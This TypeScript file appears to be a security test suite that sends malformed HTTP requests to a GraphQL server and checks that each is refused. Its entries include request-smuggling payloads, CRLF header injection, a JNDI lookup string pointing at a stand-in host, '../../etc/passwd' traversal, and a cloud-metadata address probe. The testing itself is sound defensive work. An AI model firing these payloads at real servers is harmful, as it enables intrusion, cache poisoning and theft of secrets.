// biome-ignore-all lint/suspicious/noTemplateCurlyInString: that is what logs were attacked with
import {
  type AttackClass,
  asking,
  badRequest,
  type Expected,
  harmless,
  polite,
  raw,
  requesting,
  sending,
} from '../support/attack.ts';

const hello = JSON.stringify({ query: '{ __typename }' });
const encoded = encodeURIComponent('{ __typename }');
const notAllowed: Expected = { status: 405, code: 'BAD_USER_INPUT' };
const notFound: Expected = { status: 404, code: 'BAD_USER_INPUT' };
const head =
  'POST /graphql HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\nConnection: close\r\nAuthorization: {key}\r\n';
const get = 'GET /livez HTTP/1.1\r\nHost: 127.0.0.1\r\n';
const smuggled = 'GET /readyz HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n';
const end = 'Connection: close\r\n\r\n';

export const http: readonly AttackClass[] = [
  {
    number: 11,
    name: 'operations by GET',
    attacks: [
      ...[
        `?query=${encoded}`,
        `?query=${encodeURIComponent('mutation { x }')}`,
        `?query=${encoded}&variables=%7B%7D&operationName=A`,
        `?query=${encoded}&x=/livez`,
        '?extensions={"persistedQuery":{"version":1,"sha256Hash":"00"}}',
        '?documentId=sha256:00',
        '',
      ].map((query) => requesting(`GET ${query || 'nothing'}`, 'GET', `/graphql${query}`, notAllowed)),
      ...['application/json', 'foo/bar', 'message/rfc822', 'text/plain'].map((type) =>
        requesting(`GET of ${type}`, 'GET', `/graphql?query=${encoded}`, notAllowed, {
          'content-type': type,
        }),
      ),
      ...['PUT', 'DELETE', 'PATCH', 'OPTIONS', 'TRACE', 'QUERY', 'PROPFIND'].map((method) =>
        requesting(
          method,
          method,
          '/graphql',
          notAllowed,
          { ...polite, 'content-length': String(hello.length) },
          hello,
        ),
      ),
      requesting('HEAD', 'HEAD', `/graphql?query=${encoded}`, { status: 405 }),
      requesting('GET that says it is POST', 'GET', `/graphql?query=${encoded}`, notAllowed, {
        'x-http-method-override': 'POST',
      }),
      requesting(
        'a body in GET',
        'GET',
        '/graphql',
        notAllowed,
        { ...polite, 'content-length': String(hello.length) },
        hello,
      ),
    ],
  },
  {
    number: 13,
    name: 'foreign origins',
    attacks: [
      ...[
        'https://evil.test',
        'null',
        'https://app.example.com.evil.test',
        'https://evilapp.example.com',
        'http://app.example.com',
        'https://app.example.com:444',
        'https://app.example.com@evil.test',
        'file://',
        '*',
      ].flatMap((origin) => [
        sending(
          `a question of ${origin}`,
          hello,
          { ...harmless, without: /access-control-/i },
          { origin, cookie: 'session=1' },
        ),
        requesting(
          `a preflight of ${origin}`,
          'OPTIONS',
          '/graphql',
          { ...notAllowed, without: /access-control-/i },
          { origin, 'access-control-request-method': 'POST' },
        ),
      ]),
      sending(
        'one of ours, with cookies',
        hello,
        { ...harmless, without: /allow-credentials|allow-origin: \*/i },
        { origin: 'https://app.example.com', cookie: 'session=1' },
      ),
    ],
  },
  {
    number: 25,
    name: 'HTTP/2 and upgrades',
    attacks: [
      raw('the preface of HTTP/2', 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0', 400),
      raw(
        'an upgrade to HTTP/2',
        `${get}Connection: Upgrade, HTTP2-Settings, close\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n`,
        200,
      ),
      raw(
        'an upgrade to a WebSocket',
        'GET /graphql HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: Upgrade, close\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Protocol: graphql-transport-ws\r\n\r\n',
        405,
      ),
      raw('a TLS greeting', Buffer.from('16030100050100000100', 'hex').toString('latin1'), 400),
      raw('frames without a preface', '\0\0\0\x04\0\0\0\0\0'.repeat(10), 400),
      asking(
        'a stream of events',
        '{ __typename }',
        { status: 406, code: 'BAD_USER_INPUT' },
        { headers: { accept: 'text/event-stream' } },
      ),
      asking(
        'an answer in parts',
        '{ __typename }',
        { status: 406, code: 'BAD_USER_INPUT' },
        { headers: { accept: 'multipart/mixed' } },
      ),
      asking('a subscription', 'subscription { events { id } }', { status: 400 }),
    ],
  },
  {
    number: 26,
    name: 'request smuggling',
    attacks: [
      raw(
        'a length and chunks',
        `${head}Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${smuggled}`,
        400,
      ),
      raw(
        'chunks and a length',
        `${head}Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n0\r\n\r\n${smuggled}`,
        400,
      ),
      raw('two lengths', `${head}Content-Length: 4\r\nContent-Length: 5\r\n\r\n{}{}`, 400),
      raw('two lengths alike', `${head}Content-Length: 4\r\nContent-Length: 4\r\n\r\n{}{}`, 400),
      raw('a list of lengths', `${head}Content-Length: 4, 4\r\n\r\n{}{}`, 400),
      raw(
        'chunked twice',
        `${head}Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n`,
        400,
      ),
      raw('chunked and identity', `${head}Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n`, 400),
      raw('an unknown coding', `${head}Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n`, 400),
      raw(
        'a tab before chunked',
        `${head}Transfer-Encoding:\tchunked\r\nContent-Length: 4\r\n\r\n0\r\n\r\n`,
        400,
      ),
      raw('a space before the colon', `${head}Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n`, 400),
      raw('a folded header', `${head}Transfer-Encoding:\r\n chunked\r\n\r\n0\r\n\r\n`, 400),
      raw('a folded other header', `${get}X: a\r\n b\r\n\r\n`, 400),
      raw('a bare LF between headers', `GET /livez HTTP/1.1\nHost: 127.0.0.1\n${end}`, 400),
      raw('a bare LF after a header', `${get}X: a\nConnection: close\r\n\r\n`, 400),
      raw('a bare CR in a header', `${get}X: a\rb\r\n\r\n`, 400),
      raw('a NUL in a header', `${get}X: a\0b\r\n\r\n`, 400),
      raw('a NUL in a name', `${get}X\0Y: a\r\n\r\n`, 400),
      raw('a header without a name', `${get}: a\r\n\r\n`, 400),
      raw(
        'a chunk size with a sign',
        `${head}Transfer-Encoding: chunked\r\n\r\n+5\r\nhello\r\n0\r\n\r\n`,
        400,
      ),
      raw(
        'a chunk size beyond 64 bits',
        `${head}Transfer-Encoding: chunked\r\n\r\n${'f'.repeat(17)}\r\nhello`,
        400,
      ),
      raw(
        'a chunk longer than it says',
        `${head}Transfer-Encoding: chunked\r\n\r\n2\r\nhello\r\n0\r\n\r\n`,
        400,
      ),
      raw('a chunk that ends with LF', `${head}Transfer-Encoding: chunked\r\n\r\n5\nhello\r\n0\r\n\r\n`, 400),
      raw('no Host', 'GET /livez HTTP/1.1\r\nConnection: close\r\n\r\n', 400),
      raw('an unknown version', 'GET /livez HTTP/1.9\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n', 400),
      raw('no version', 'GET /graphql\r\n\r\n', 405),
      raw('a method in small letters', 'get /livez HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n', 400),
      raw('a space in the path', 'GET /livez x HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n', 400),
      raw(
        'a question behind a question that is refused',
        `${head}Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n${smuggled}${smuggled}`,
        400,
      ),
      raw('a header of 17 kB', `${get}X: ${'a'.repeat(17_000)}\r\n\r\n`, 431),
      raw(
        '5,000 headers',
        `${get}${Array.from({ length: 5000 }, (_, n) => `X${n}: a\r\n`).join('')}\r\n`,
        431,
      ),
      raw('a path of 17 kB', `GET /${'a'.repeat(17_000)} HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n`, 431),
    ],
  },
  {
    number: 31,
    name: 'header injection',
    attacks: [
      ...[
        'a b',
        'a\tb',
        'a;b',
        '<script>',
        '%0d%0aset-cookie:x=1',
        '\\r\\nset-cookie:x=1',
        'é',
        'a'.repeat(65),
        '../../etc/passwd',
        '${jndi:ldap://evil.test/a}',
        '"},{"',
        '',
      ].map((id) =>
        asking(
          `the request id ${JSON.stringify(id)}`,
          '{ __typename }',
          { ...harmless, without: /set-cookie|jndi|script|passwd/i },
          { headers: { 'x-request-id': id } },
        ),
      ),
      ...['-1', '1e9', '٣', '0x10', 'Infinity', '9'.repeat(5000)].map((ms) =>
        asking(`a patience of ${ms.slice(0, 20)}`, '{ __typename }', badRequest, {
          headers: { 'x-request-timeout-ms': ms },
        }),
      ),
      requesting('a line break in the path', 'GET', '/%0d%0aset-cookie:%20x=1', {
        ...notFound,
        without: /set-cookie/i,
      }),
      requesting('a line break in the query', 'GET', '/livez?%0d%0aset-cookie:%20x=1', {
        status: 200,
        without: /set-cookie/i,
      }),
    ],
  },
  {
    number: 37,
    name: 'health confusion',
    attacks: [
      ...['/graphql?x=/health', '/graphql?/livez', '/graphql?x=/readyz'].map((path) =>
        requesting(`GET ${path}`, 'GET', path, notAllowed),
      ),
      ...[
        '/health',
        '/graphql/health',
        '/graphql/livez',
        '/livez/',
        '/Livez',
        '//livez',
        '/livez;x',
        '/x/../livez',
        '/%6civez',
        '/livez%00',
        '/metrics/',
        '/.env',
        '/graphiql',
        '/graphiql/app.js',
        '/',
        '*',
      ].map((path) => requesting(`GET ${path}`, 'GET', path, notFound)),
      requesting('POST to a probe', 'POST', '/livez', notAllowed, polite),
      requesting('GraphQL to a probe', 'GET', `/readyz?query=${encoded}`, {
        status: 200,
        without: /__typename/,
      }),
      requesting('another address', 'GET', 'http://169.254.169.254/latest/meta-data', notFound),
      requesting('a tunnel', 'CONNECT', 'evil.test:443', { status: 0 }),
    ],
  },
  {
    number: 44,
    name: 'Host and forwarded headers',
    attacks: [
      ...[
        'evil.test',
        'evil.test:80',
        '127.0.0.1.evil.test',
        '127.0.0.1@evil.test',
        'localhost:80:80',
        '2130706433',
        '0x7f000001',
        '127.1',
        '',
      ].map((host) =>
        asking(
          `Host: ${host}`,
          '{ __typename }',
          { status: 421, code: 'BAD_USER_INPUT' },
          { headers: { host } },
        ),
      ),
      ...[
        'x-forwarded-host',
        'x-forwarded-for',
        'x-forwarded-proto',
        'forwarded',
        'x-real-ip',
        'x-original-url',
        'x-rewrite-url',
        'x-http-method-override',
        'true-client-ip',
      ].map((name) =>
        asking(
          `${name}: evil.test`,
          '{ __typename }',
          { ...harmless, without: /evil/ },
          { headers: { [name]: 'evil.test' } },
        ),
      ),
      raw('two hosts', `GET /graphql HTTP/1.1\r\nHost: 127.0.0.1\r\nHost: evil.test\r\n${end}`, 421),
    ],
  },
];
